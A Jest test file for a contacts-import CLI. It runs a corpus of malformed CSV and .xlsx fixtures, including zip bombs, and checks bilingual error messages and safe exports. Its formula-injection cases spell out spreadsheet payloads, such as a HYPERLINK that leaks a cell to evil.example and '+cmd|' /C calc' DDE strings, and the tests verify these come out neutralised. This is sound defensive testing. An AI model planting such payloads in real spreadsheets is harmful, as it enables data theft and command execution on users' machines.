/**
 * The bad-input corpus (test/fixtures/bad/, written by scripts/make-bad-fixtures.js; the big files
 * are generated into a temp folder): every file gets an answer that says what is wrong and where,
 * in English and in French, the CLI never crashes, and a refused file writes nothing.
 *
 * All the CLI runs happen up front in beforeAll, several processes at a time (each case has its
 * own DATA_DIR, its runs in order), so that the file stays well under a minute on 2 cores; the
 * tests then check the recorded runs. Each CLI call costs about 0.6 s of CPU (it loads the bot), so
 * the export after each case is taken in this process, with the service `contacts export` calls;
 * the seeded directory's export is taken both ways, to show that they are the same bytes.
 */
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import type { FileErrorCode } from '../../src/csv/fileError';
import type { RowIssueCode } from '../../src/domain/contactIssues';
import { openLowdbDirectory } from '../../src/directory/lowdb/lowdbDirectory';
import type { Directory } from '../../src/directory/directory';
import { messages } from '../../src/i18n';
import type { ImportOutcome } from '../../src/imports/contacts';
import { fileErrorMessage, issueMessage } from '../../src/imports/report';
import { ContactService } from '../../src/services/contactService';

const recipe = require('../../scripts/make-bad-fixtures.js') as {
  FIXTURES: Record<string, Buffer>;
  writeGeneratedFixtures(dir: string): string[];
};

const CLI = path.join(__dirname, '..', '..', 'dist', 'src', 'cli', 'main.js');
const BAD = path.join(__dirname, '..', 'fixtures', 'bad');
const SEED = path.join(__dirname, '..', '..', '..', 'shared', 'fixtures', 'csv', 'webex-contacts-template-filled.csv');
const SEEDED_CONTACTS = 8;
const MB = 1024 * 1024;

// ---------------------------------------------------------------- the table

type Lang = 'en' | 'fr';
type Where = Record<Lang, RegExp>;
type RowError = [line: number, column: string | null, code: RowIssueCode];

interface Base {
  /** The behaviour the case protects, as the test is named. */
  name: string;
  /** A file of test/fixtures/bad, or `gen:NAME` for one generated at test time. */
  file: string;
  env?: Record<string, string>;
}

/** Refused as a whole: exit 1, {dryRun, fileError}, nothing written. Imported for real, into a seeded directory. */
interface Refused extends Base {
  kind: 'refused';
  code: FileErrorCode;
  /** Where the message says the problem is, or what it is about (the fix is checked per code, in FIX). */
  where?: Where;
}

/** Read, with row errors at these lines and columns: exit 0. Checked with --dry-run. */
interface RowErrors extends Base {
  kind: 'rows';
  errors: RowError[];
  created: number;
  /** Also checks the --errors-out file. */
  errorFile?: (rows: string[][]) => void;
}

/** Tricky but valid: imported for real; the export shows the contacts as they were meant. */
interface Valid extends Base {
  kind: 'valid';
  encoding: string;
  delimiter: string;
  created: number;
  exported: (rows: string[][]) => void;
  /** Also imports the export again (--dry-run) and expects it to change nothing. */
  roundTrip?: boolean;
}

type Case = Refused | RowErrors | Valid;

/** The fix each file error names, in both languages. */
const FIX: Record<FileErrorCode, Where> = {
  empty_file: { en: /Save your spreadsheet as CSV UTF-8 or \.xlsx/, fr: /Enregistrez votre tableur au format CSV UTF-8 ou \.xlsx/ },
  header_only: { en: /Add one contact per line under the header/, fr: /Ajoutez un contact par ligne sous l'en-tête/ },
  not_text: { en: /"Save as" > "CSV UTF-8/, fr: /« Enregistrer sous » > « CSV UTF-8/ },
  unreadable_xlsx: { en: /save it again as \.xlsx or CSV UTF-8/, fr: /enregistrez-le à nouveau en \.xlsx ou en CSV UTF-8/ },
  too_large: { en: /Split it into smaller files/, fr: /Découpez-le en fichiers plus petits/ },
  too_many_rows: { en: /Split it into files of at most/, fr: /Découpez-le en fichiers d'au plus/ },
  malformed_csv: { en: /must be inside double quotes/, fr: /doit être entre guillemets/ },
  unknown_header: { en: /Use the Webex contacts template/, fr: /Utilisez le modèle de contacts Webex/ },
  missing_column: { en: /Add it with that exact name/, fr: /Ajoutez-la avec ce nom exact/ },
  duplicate_column: { en: /Keep only one of them/, fr: /N'en gardez qu'une/ },
  xlsx_too_large: { en: /Keep only the sheet to import/, fr: /Gardez seulement la feuille à importer/ },
  xlsx_too_many_parts: { en: /Copy the rows to import into a new workbook/, fr: /Copiez les lignes à importer dans un nouveau classeur/ },
  xlsx_too_wide: { en: /move your columns to the left/, fr: /déplacez vos colonnes vers la gauche/ },
};

const line = (n: number): Where => ({ en: new RegExp(`^Line ${n}:`), fr: new RegExp(`^Ligne ${n} :`) });
const both = (re: RegExp): Where => ({ en: re, fr: re });
const sixRowsSize = recipe.FIXTURES['six-rows.csv'].length;

/** Every cell of an export or error file is safe to open in a spreadsheet: none starts a formula unless ' neutralises it. */
function expectNoFormula(rows: string[][]): void {
  for (const cell of rows.flat()) {
    if (/^\+\d[\d .-]*$/.test(cell)) continue; // a phone number in international form, left as it is
    expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  }
}

const column = (rows: string[][], name: string) => rows.slice(1).map((row) => row[rows[0].indexOf(name)]);

const CASES: Case[] = [
  // Not text, or not a workbook.
  { kind: 'refused', name: 'a PNG image named .csv is not_text', file: 'binary-png.csv', code: 'not_text' },
  { kind: 'refused', name: 'a zip that holds no workbook is unreadable_xlsx', file: 'zip-not-xlsx.xlsx', code: 'unreadable_xlsx' },
  { kind: 'refused', name: 'a truncated .xlsx is unreadable_xlsx', file: 'truncated.xlsx', code: 'unreadable_xlsx' },
  { kind: 'refused', name: 'CSV text with NUL bytes is not_text', file: 'nul-bytes.csv', code: 'not_text' },
  { kind: 'refused', name: 'UTF-16 LE without a BOM is not_text', file: 'utf16le-no-bom.csv', code: 'not_text' },
  { kind: 'refused', name: 'UTF-16 BE without a BOM is not_text', file: 'utf16be-no-bom.csv', code: 'not_text' },
  {
    kind: 'refused',
    name: 'UTF-8 with broken sequences is not_text, not read as Windows-1252 ("Ã©" everywhere)',
    file: 'broken-utf8.csv',
    code: 'not_text',
  },
  // Nothing to import.
  { kind: 'refused', name: 'an empty file is empty_file', file: 'empty.csv', code: 'empty_file' },
  { kind: 'refused', name: 'a file of spaces, tabs and line breaks is empty_file', file: 'whitespace-only.csv', code: 'empty_file' },
  { kind: 'refused', name: 'a UTF-8 BOM alone is empty_file', file: 'bom-only.csv', code: 'empty_file' },
  { kind: 'refused', name: 'a file of delimiters only is empty_file', file: 'only-delimiters.csv', code: 'empty_file' },
  { kind: 'refused', name: 'the company-contacts header alone is header_only', file: 'header-only-company.csv', code: 'header_only' },
  { kind: 'refused', name: 'a header followed by blank lines only is header_only', file: 'header-only-then-blank-lines.csv', code: 'header_only' },
  // Header tricks.
  { kind: 'refused', name: 'a column twice is duplicate_column, naming it', file: 'duplicate-column.csv', code: 'duplicate_column', where: both(/"Contact Email"|« Contact Email »/) },
  { kind: 'refused', name: 'no Display Name column is missing_column, naming it', file: 'missing-display-name.csv', code: 'missing_column', where: both(/colonne Display Name|column Display Name/) },
  { kind: 'refused', name: 'a phone column without its Type column is missing_column', file: 'missing-phone-type.csv', code: 'missing_column', where: both(/Phone Number 1 Type/) },
  { kind: 'refused', name: 'a header of unknown columns only is unknown_header, quoting it', file: 'unknown-columns-only.csv', code: 'unknown_header', where: both(/Name, Phone, Mail, Job/) },
  { kind: 'refused', name: "Excel's sep= line before the header is unknown_header, quoting it", file: 'sep-directive.csv', code: 'unknown_header', where: both(/sep=/) },
  { kind: 'refused', name: 'an HTML page saved as .csv is unknown_header', file: 'html-saved-as-csv.csv', code: 'unknown_header', where: both(/<html>/) },
  // Quoting.
  { kind: 'refused', name: 'a quote never closed is malformed_csv at the line it opens', file: 'unclosed-quote.csv', code: 'malformed_csv', where: line(3) },
  { kind: 'refused', name: 'a quote in the middle of an unquoted value is malformed_csv at its line', file: 'quote-mid-field.csv', code: 'malformed_csv', where: line(3) },
  { kind: 'refused', name: 'text after a closing quote is malformed_csv at its line', file: 'quote-after-closing-quote.csv', code: 'malformed_csv', where: line(3) },
  { kind: 'refused', name: 'a quote left open 1 MB before the end is malformed_csv at its line', file: 'gen:unclosed-quote-1mb.csv', code: 'malformed_csv', where: line(3) },
  // Limits.
  {
    kind: 'refused',
    name: 'one row over IMPORT_MAX_ROWS (6 rows, limit 5) is too_many_rows',
    file: 'six-rows.csv',
    env: { IMPORT_MAX_ROWS: '5' },
    code: 'too_many_rows',
    where: { en: /holds 6 rows; the limit is 5 per import/, fr: /contient 6 lignes ; la limite est de 5 par import/ },
  },
  { kind: 'refused', name: 'one byte over IMPORT_MAX_BYTES is too_large', file: 'six-rows.csv', env: { IMPORT_MAX_BYTES: String(sixRowsSize - 1) }, code: 'too_large' },
  { kind: 'refused', name: 'a file of 5 MB + 1 byte (default limit) is too_large', file: 'gen:over-5mb.csv', code: 'too_large', where: { en: /weighs 5,242,881 bytes; the limit is 5,242,880 bytes/, fr: /pèse 5\s242\s881 octets ; la limite est de 5\s242\s880 octets/ } },
  // .xlsx bombs (#27): refused from the zip's directory, or as soon as the sheet goes past the caps.
  {
    kind: 'refused',
    name: 'a 52 KB .xlsx whose sheet unzips to 50 MB of spaces is xlsx_too_large',
    file: 'bomb-spaces-50mb.xlsx',
    code: 'xlsx_too_large',
    where: { en: /holds 50\.0 MB of data; the limit is 40\.0 MB/, fr: /contient 50,0 Mo de données ; la limite est de 40,0 Mo/ },
  },
  { kind: 'refused', name: 'a 300 KB .xlsx holding one 300 MB cell is xlsx_too_large', file: 'gen:bomb-cell-300mb.xlsx', code: 'xlsx_too_large', where: both(/300[.,]0 M/) },
  { kind: 'refused', name: 'an .xlsx whose zip says its sheet is 1 KB but holds 50 MB is unreadable_xlsx', file: 'bomb-lying-size.xlsx', code: 'unreadable_xlsx' },
  { kind: 'refused', name: 'an .xlsx whose one value is in XFD20000 is xlsx_too_wide, naming the cell', file: 'bomb-far-cell.xlsx', code: 'xlsx_too_wide', where: both(/XFD20000/) },
  // Row errors: the file is read, each bad row is reported at its line and column.
  { kind: 'rows', name: 'exactly IMPORT_MAX_ROWS rows (6, limit 6) are all read', file: 'six-rows.csv', env: { IMPORT_MAX_ROWS: '6' }, errors: [], created: 6 },
  { kind: 'rows', name: 'exactly IMPORT_MAX_BYTES bytes are read', file: 'six-rows.csv', env: { IMPORT_MAX_BYTES: String(sixRowsSize) }, errors: [], created: 6 },
  {
    kind: 'rows',
    name: 'a row with more values than the header is too_many_values (trailing empty cells are not)',
    file: 'too-many-values.csv',
    errors: [
      [3, null, 'too_many_values'],
      [3, 'Contact Email', 'email_invalid'],
    ],
    created: 1,
  },
  {
    kind: 'rows',
    name: 'a phone number a spreadsheet turned into 3.36123E+10 (or 3,36123E+10) is phone_scientific_notation',
    file: 'phone-scientific-notation.csv',
    errors: [
      [3, 'Phone Number 1', 'phone_scientific_notation'],
      [4, 'Phone Number 1', 'phone_scientific_notation'],
    ],
    created: 1,
  },
  {
    kind: 'rows',
    name: 'invalid e-mails are email_invalid',
    file: 'invalid-email.csv',
    errors: [
      [3, 'Contact Email', 'email_invalid'],
      [4, 'Contact Email', 'email_invalid'],
    ],
    created: 1,
  },
  {
    kind: 'rows',
    name: 'an unknown phone type is phone_type_invalid, a missing one phone_type_required',
    file: 'invalid-phone-type.csv',
    errors: [
      [3, 'Phone Number 1 Type', 'phone_type_invalid'],
      [4, 'Phone Number 1 Type', 'phone_type_required'],
    ],
    created: 1,
  },
  {
    kind: 'rows',
    name: 'a formula as phone number is phone_invalid, and the error file neutralises it',
    file: 'formula-as-phone.csv',
    errors: [
      [2, 'Phone Number 1', 'phone_invalid'],
      [3, 'Phone Number 1', 'phone_invalid'],
    ],
    created: 0,
    errorFile: (rows) => {
      expect(column(rows, 'Phone Number 1')).toEqual(["'=1+2", '\'=HYPERLINK("http://evil.example","call")']);
      expectNoFormula(rows);
    },
  },
  {
    kind: 'rows',
    name: 'a company contact with neither work phone nor e-mail is phone_or_email_required',
    file: 'company-missing-method.csv',
    errors: [[3, null, 'phone_or_email_required']],
    created: 1,
  },
  {
    kind: 'rows',
    name: 'the header repeated as a data row fails at its line; the rows around it import',
    file: 'header-repeated-as-row.csv',
    errors: [
      [3, 'Phone Number 1 Type', 'phone_type_invalid'],
      [3, 'Contact Email', 'email_invalid'],
    ],
    created: 2,
  },
  {
    kind: 'rows',
    name: 'a BOM in the middle (two files pasted together) fails only the second header, at its line',
    file: 'bom-in-middle.csv',
    errors: [
      [3, 'Phone Number 1 Type', 'phone_type_invalid'],
      [3, 'Contact Email', 'email_invalid'],
    ],
    created: 2,
  },
  {
    kind: 'rows',
    name: 'blank lines before the header shift the line numbers as the file shows them',
    file: 'blank-lines-before-header.csv',
    errors: [[5, null, 'contact_method_required']],
    created: 1,
  },
  {
    kind: 'rows',
    name: 'CR-only line ends (classic Mac) are read, a record over two lines counts from its first',
    file: 'cr-only-line-endings.csv',
    errors: [[5, 'Contact Email', 'email_invalid']],
    created: 2,
  },
  { kind: 'rows', name: 'a 1 MB phone cell is value_too_long at its line', file: 'gen:cell-1mb.csv', errors: [[3, 'Phone Number 1', 'value_too_long']], created: 1 },
  // Tricky but valid.
  {
    kind: 'valid',
    name: 'Windows-1252 with accents and ";" imports with its accents intact',
    file: 'windows-1252-accents.csv',
    encoding: 'windows-1252',
    delimiter: ';',
    created: 2,
    exported: (rows) => {
      expect(column(rows, 'Display Name').slice(-2)).toEqual(['Élodie Crête', 'François Noël']);
      expect(column(rows, 'Title').slice(-2)).toEqual(['Sécurité', 'Réception, accueil']);
    },
  },
  {
    kind: 'valid',
    name: 'UTF-8 with BOM and ";" imports, a quoted ";" stays in its value',
    file: 'semicolon-bom.csv',
    encoding: 'utf-8-bom',
    delimiter: ';',
    created: 2,
    exported: (rows) => {
      expect(column(rows, 'Display Name').slice(-2)).toEqual(['Zoé Dupré', 'Ana Núñez']);
      expect(column(rows, 'Title').slice(-2)).toEqual(['Chef; de projet', '']);
      expect(column(rows, 'Phone Number 1').slice(-2)).toEqual(['+33123456711', '+34912345678']);
    },
  },
  {
    kind: 'valid',
    name: 'UTF-16 LE with BOM and tabs imports',
    file: 'utf16le-bom-tab.csv',
    encoding: 'utf-16le',
    delimiter: '\t',
    created: 1,
    exported: (rows) => expect(rows.at(-1)!.slice(0, 6)).toEqual(['Jérôme Lévêque', expect.any(String), '', '', '+33123456721', 'work']),
  },
  {
    kind: 'valid',
    name: 'a doubled BOM imports, and no BOM ends up in the name',
    file: 'double-bom.csv',
    encoding: 'utf-8-bom',
    delimiter: ',',
    created: 1,
    exported: (rows) => expect(column(rows, 'Display Name').at(-1)).toBe('Double Bom'),
  },
  {
    kind: 'valid',
    name: 'formulas in names and titles (=HYPERLINK, +cmd, -2+3, @SUM) are stored as text and exported neutralised',
    file: 'formula-injection.csv',
    encoding: 'utf-8',
    delimiter: ',',
    created: 5,
    roundTrip: true,
    exported: (rows) => {
      expect(column(rows, 'Display Name').slice(-5)).toEqual([
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "'+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'=1+1",
      ]);
      expect(column(rows, 'Title').slice(-5)).toEqual(['\'=HYPERLINK("http://evil.example")', "'+cmd|' /C notepad'!A0", "'-2+3", "'@SUM(A1:A9)", "'=1+1"]);
      expectNoFormula(rows);
    },
  },
];

// ---------------------------------------------------------------- running the CLI

interface Run {
  code: number | null;
  signal: NodeJS.Signals | null;
  stdout: string;
  stderr: string;
  json: any;
}

let genDir: string;
let workDir: string;
const fileOf = (c: Case) => (c.file.startsWith('gen:') ? path.join(genDir, c.file.slice(4)) : path.join(BAD, c.file));

function cli(dataDir: string, args: string[], env: Record<string, string> = {}): Promise<Run> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [CLI, ...args], { env: { PATH: process.env.PATH, DATA_DIR: dataDir, ...env } });
    const out: Buffer[] = [];
    const err: Buffer[] = [];
    child.stdout.on('data', (chunk: Buffer) => out.push(chunk));
    child.stderr.on('data', (chunk: Buffer) => err.push(chunk));
    const timer = setTimeout(() => child.kill('SIGKILL'), 20_000);
    child.on('error', reject);
    child.on('close', (code, signal) => {
      clearTimeout(timer);
      const stdout = Buffer.concat(out).toString('utf8');
      let json: unknown;
      try {
        json = JSON.parse(stdout);
      } catch {
        json = undefined;
      }
      resolve({ code, signal, stdout, stderr: Buffer.concat(err).toString('utf8'), json });
    });
  });
}

/** Runs the tasks, at most `limit` at a time. */
async function pool<T>(tasks: (() => Promise<T>)[], limit: number): Promise<T[]> {
  const results: T[] = new Array(tasks.length);
  let next = 0;
  const worker = async () => {
    while (next < tasks.length) {
      const index = next++;
      results[index] = await tasks[index]();
    }
  };
  await Promise.all(Array.from({ length: Math.min(limit, tasks.length) }, worker));
  return results;
}

interface Outcome {
  runs: Record<Lang, Run>;
  /** Refused: the export of the seeded directory after both imports. Valid: after the import. */
  exportAfter?: Buffer;
  errorsOut?: { path: string; exists: boolean; bytes?: Buffer };
  reimport?: Run;
  /** The same file through the service in this process, with its details: the messages in both languages. */
  inProcess: ImportOutcome;
}

let seedDir: string;
let seededExport: Buffer;
let seededExportInProcess: Buffer;
const outcomes = new Map<Case, Outcome>();
const localeEnv = (lang: Lang, c: Case) => ({ DEFAULT_LOCALE: lang, ...c.env });

async function runCase(c: Case, index: number): Promise<Omit<Outcome, 'inProcess'>> {
  const dataDir = path.join(workDir, `case-${index}`);
  const file = fileOf(c);
  if (c.kind === 'rows') {
    // --dry-run is enough for row errors: an empty directory, nothing written.
    const errorsOut = path.join(workDir, `errors-${index}.csv`);
    const en = await cli(dataDir, ['contacts', 'import', file, '--dry-run', '--json', '--errors-out', errorsOut], localeEnv('en', c));
    const fr = await cli(dataDir, ['contacts', 'import', file, '--dry-run', '--json'], localeEnv('fr', c));
    const exists = fs.existsSync(errorsOut);
    return { runs: { en, fr }, errorsOut: { path: errorsOut, exists, bytes: exists ? fs.readFileSync(errorsOut) : undefined } };
  }
  fs.cpSync(seedDir, dataDir, { recursive: true });
  if (c.kind === 'refused') {
    // A real import (no --dry-run) in both languages: neither may write a contact, nor an error file.
    const errorsOut = path.join(workDir, `errors-${index}.csv`);
    const en = await cli(dataDir, ['contacts', 'import', file, '--json', '--errors-out', errorsOut], localeEnv('en', c));
    const fr = await cli(dataDir, ['contacts', 'import', file, '--json'], localeEnv('fr', c));
    return { runs: { en, fr }, exportAfter: await exportOf(dataDir), errorsOut: { path: errorsOut, exists: fs.existsSync(errorsOut) } };
  }
  const fr = await cli(dataDir, ['contacts', 'import', file, '--dry-run', '--json'], localeEnv('fr', c));
  const en = await cli(dataDir, ['contacts', 'import', file, '--json'], localeEnv('en', c));
  const exportAfter = await exportOf(dataDir);
  let reimport: Run | undefined;
  if (c.roundTrip) {
    const exportOut = path.join(workDir, `export-${index}.csv`);
    fs.writeFileSync(exportOut, exportAfter);
    reimport = await cli(dataDir, ['contacts', 'import', exportOut, '--dry-run', '--json']);
  }
  return { runs: { en, fr }, exportAfter, reimport };
}

/** What `contacts export` writes for this DATA_DIR (the same service call), without starting a CLI. */
async function exportOf(dataDir: string): Promise<Buffer> {
  const directory = await openLowdbDirectory(dataDir);
  try {
    return (await new ContactService(directory, { region: 'FR', limits: { maxRows: 10_000, maxBytes: 5 * MB } }).exportCsv()).csv;
  } finally {
    await directory.close();
  }
}

/** The same import in this process (dry run), for the details that the French message is built from. */
async function inProcess(directory: Directory, c: Case): Promise<ImportOutcome> {
  const limits = {
    maxRows: Number(c.env?.IMPORT_MAX_ROWS ?? 10_000),
    maxBytes: Number(c.env?.IMPORT_MAX_BYTES ?? 5 * MB),
  };
  const service = new ContactService(directory, { region: 'FR', limits });
  const bytes = fs.readFileSync(fileOf(c));
  return service.importFile({ bytes, fileName: path.basename(c.file), dryRun: true }, { actor: { id: 'test', name: 'test', role: 'admin' }, flow: 'test' });
}

beforeAll(async () => {
  workDir = fs.mkdtempSync(path.join(os.tmpdir(), 'provisio-bad-input-'));
  genDir = path.join(workDir, 'generated');
  fs.mkdirSync(genDir);
  recipe.writeGeneratedFixtures(genDir);

  seedDir = path.join(workDir, 'seed');
  const seeded = await cli(seedDir, ['contacts', 'import', SEED, '--json']);
  if (seeded.code !== 0 || seeded.json?.created !== SEEDED_CONTACTS) throw new Error(`seeding failed: ${seeded.stdout}${seeded.stderr}`);
  const seedExport = path.join(workDir, 'seed-export.csv');
  const exported = await cli(seedDir, ['contacts', 'export', '--out', seedExport]);
  if (exported.code !== 0) throw new Error(`export failed: ${exported.stderr}`);
  seededExport = fs.readFileSync(seedExport);
  seededExportInProcess = await exportOf(seedDir);

  const limit = Math.max(2, (os.availableParallelism?.() ?? os.cpus().length) + 1);
  const results = await pool(CASES.map((c, i) => () => runCase(c, i)), limit);

  const directory = await openLowdbDirectory(path.join(workDir, 'in-process'));
  try {
    for (const [i, c] of CASES.entries()) outcomes.set(c, { ...results[i], inProcess: await inProcess(directory, c) });
  } finally {
    await directory.close();
  }
}, 120_000);

afterAll(() => {
  if (workDir) fs.rmSync(workDir, { recursive: true, force: true });
});

// ---------------------------------------------------------------- checks

const STACK_TRACE = /^\s+at /m;

function expectNoCrash(run: Run, expectedCode: 0 | 1): void {
  expect({ code: run.code, signal: run.signal }).toEqual({ code: expectedCode, signal: null });
  expect(run.stderr).not.toMatch(STACK_TRACE);
  expect(run.stderr).not.toMatch(/TypeError|RangeError|ReferenceError|SyntaxError|ENOBUFS|heap/);
  expect(run.json).toEqual(expect.any(Object));
}

const m = { en: messages('en'), fr: messages('fr') };

describe.each(CASES.filter((c): c is Refused => c.kind === 'refused').map((c) => [c.name, c] as const))('refused: %s', (_name, c) => {
  test('exit 1 with {dryRun, fileError: {code, message}}, no crash, in both languages', () => {
    const { runs } = outcomes.get(c)!;
    for (const lang of ['en', 'fr'] as const) {
      expectNoCrash(runs[lang], 1);
      expect(runs[lang].json).toEqual({ dryRun: false, fileError: { code: c.code, message: expect.any(String) } });
      expect(Object.keys(runs[lang].json.fileError)).toEqual(['code', 'message']);
      // Without --json the message is also on stderr, as one line.
      expect(runs[lang].stderr).toBe(`${m[lang].cli.error(runs[lang].json.fileError.message)}\n`);
    }
  });

  test('the English message names the fix and where, and says nothing was imported', () => {
    const message: string = outcomes.get(c)!.runs.en.json.fileError.message;
    expect(message).toMatch(FIX[c.code].en);
    if (c.where) expect(message).toMatch(c.where.en);
    expect(message).toMatch(/Nothing was imported\.$/);
    expect(message).not.toMatch(/undefined|NaN|\[object/);
  });

  test('the French message names the same fix and place, and differs from the English one', () => {
    const { inProcess: outcome, runs } = outcomes.get(c)!;
    if (outcome.ok) throw new Error(`the service accepted ${c.file}`);
    expect(outcome.fileError.code).toBe(c.code);
    // The English message the CLI printed is the catalogue's, with the same details.
    expect(fileErrorMessage(m.en, outcome.fileError.code, outcome.fileError.details)).toBe(runs.en.json.fileError.message);
    const french = fileErrorMessage(m.fr, outcome.fileError.code, outcome.fileError.details);
    expect(french).toMatch(FIX[c.code].fr);
    if (c.where) expect(french).toMatch(c.where.fr);
    expect(french).toMatch(/Rien n'a été importé\.$/);
    expect(french).not.toMatch(/undefined|NaN|\[object/);
    expect(french).not.toBe(runs.en.json.fileError.message);
  });

  test('nothing is written: the export is byte-identical, no error file', () => {
    const outcome = outcomes.get(c)!;
    expect(outcome.exportAfter!.equals(seededExport)).toBe(true);
    expect(outcome.errorsOut!.exists).toBe(false);
  });
});

describe.each(CASES.filter((c): c is RowErrors => c.kind === 'rows').map((c) => [c.name, c] as const))('rows: %s', (_name, c) => {
  test('exit 0, no crash; the errors at these lines and columns, in both languages', () => {
    const { runs } = outcomes.get(c)!;
    for (const lang of ['en', 'fr'] as const) {
      expectNoCrash(runs[lang], 0);
      expect(runs[lang].json).toMatchObject({ dryRun: true, created: c.created, failed: new Set(c.errors.map(([l]) => l)).size });
      expect(runs[lang].json.errors.map((e: { line: number; column: string | null; code: string }) => [e.line, e.column, e.code])).toEqual(c.errors);
      for (const issue of [...runs[lang].json.errors, ...runs[lang].json.warnings]) {
        expect(issue.message).toEqual(expect.stringMatching(/\S{3}/));
        expect(issue.message).not.toMatch(/undefined|NaN|\[object/);
      }
    }
    expect(runs.en.stderr).toBe('');
  });

  test('each error has a French message that differs from the English one', () => {
    const { inProcess: outcome, runs } = outcomes.get(c)!;
    if (!outcome.ok) throw new Error(`the service refused ${c.file}: ${outcome.fileError.code}`);
    expect(outcome.report.errors.map((e) => [e.line, e.column, e.code])).toEqual(c.errors);
    outcome.report.errors.forEach((issue, i) => {
      expect(issueMessage(m.en, issue)).toBe(runs.en.json.errors[i].message);
      const french = issueMessage(m.fr, issue);
      expect(french.length).toBeGreaterThan(20);
      expect(french).not.toMatch(/undefined|NaN|\[object/);
      expect(french).not.toBe(runs.en.json.errors[i].message);
    });
  });

  test('--errors-out holds exactly the failed rows, with a Comments column', () => {
    const { errorsOut } = outcomes.get(c)!;
    if (!c.errors.length) {
      expect(errorsOut!.exists).toBe(false);
      return;
    }
    const rows: string[][] = parse(errorsOut!.bytes!, { bom: true, relax_column_count: true });
    expect(rows[0].at(-1)).toBe('Comments');
    expect(rows).toHaveLength(1 + new Set(c.errors.map(([l]) => l)).size);
    c.errorFile?.(rows);
  });
});

describe.each(CASES.filter((c): c is Valid => c.kind === 'valid').map((c) => [c.name, c] as const))('valid: %s', (_name, c) => {
  test('imported: exit 0, no error, detected as expected; the French dry run agrees', () => {
    const { runs } = outcomes.get(c)!;
    for (const lang of ['en', 'fr'] as const) {
      expectNoCrash(runs[lang], 0);
      expect(runs[lang].json).toMatchObject({ file: { encoding: c.encoding, delimiter: c.delimiter }, created: c.created, failed: 0, errors: [] });
    }
    expect(runs.fr.json.dryRun).toBe(true);
    expect(runs.en.json.dryRun).toBe(false);
  });

  test('the export holds the contacts as meant', () => {
    const { exportAfter, reimport } = outcomes.get(c)!;
    const rows: string[][] = parse(exportAfter!, { bom: true, relax_column_count: true });
    expect(rows).toHaveLength(1 + SEEDED_CONTACTS + c.created);
    c.exported(rows);
    if (c.roundTrip) {
      // The neutralised export imports back to the very same contacts.
      expectNoCrash(reimport!, 0);
      expect(reimport!.json).toMatchObject({ created: 0, updated: 0, unchanged: SEEDED_CONTACTS + c.created, failed: 0 });
    }
  });
});

/** The messages of a CLI run, in order: the file error, or the row errors then warnings. */
function messagesOf(run: Run): string[] {
  if (run.json?.fileError) return [run.json.fileError.message];
  return [...(run.json?.errors ?? []), ...(run.json?.warnings ?? [])].map((issue: { message: string }) => issue.message);
}

/** The same messages from the French catalogue, with the details of the in-process import. */
function frenchOf(outcome: ImportOutcome): string[] {
  if (!outcome.ok) return [fileErrorMessage(m.fr, outcome.fileError.code, outcome.fileError.details)];
  return [...outcome.report.errors, ...outcome.report.warnings].map((issue) => issueMessage(m.fr, issue));
}

test('contacts import answers in the language of DEFAULT_LOCALE: with fr, every message is the French one', () => {
  const english: string[] = [];
  for (const c of CASES) {
    const { runs, inProcess: outcome } = outcomes.get(c)!;
    const fr = messagesOf(runs.fr);
    expect(fr).toHaveLength(messagesOf(runs.en).length);
    if (fr.join('\n') !== frenchOf(outcome).join('\n')) english.push(`${c.file}: ${fr[0]?.slice(0, 50)}…`);
  }
  expect(english).toEqual([]);
});

test('the export taken in this process is byte for byte what `contacts export --out` writes', () => {
  expect(seededExport.length).toBeGreaterThan(0);
  expect(seededExportInProcess.equals(seededExport)).toBe(true);
  expect(parse(seededExport, { bom: true })).toHaveLength(1 + SEEDED_CONTACTS);
});

test('the corpus: at least 30 stored fixtures, each used by a case and as the script makes it', () => {
  const stored = fs.readdirSync(BAD).sort();
  expect(stored.length).toBeGreaterThanOrEqual(30);
  expect(stored).toEqual(Object.keys(recipe.FIXTURES).sort());
  for (const name of stored) expect(fs.readFileSync(path.join(BAD, name)).equals(recipe.FIXTURES[name])).toBe(true);
  const used = new Set(CASES.map((c) => c.file));
  expect(stored.filter((name) => !used.has(name))).toEqual([]);
  expect(fs.readdirSync(genDir).map((name) => `gen:${name}`).filter((name) => !used.has(name))).toEqual([]);
});

test('the generated fixtures are what their names say', () => {
  expect(fs.statSync(path.join(genDir, 'over-5mb.csv')).size).toBe(5 * MB + 1);
  expect(fs.statSync(path.join(genDir, 'cell-1mb.csv')).size).toBeGreaterThan(MB);
  expect(fs.statSync(path.join(genDir, 'unclosed-quote-1mb.csv')).size).toBeGreaterThan(MB);
  expect(recipe.FIXTURES['six-rows.csv'].toString('utf8').trim().split('\r\n')).toHaveLength(7);
});
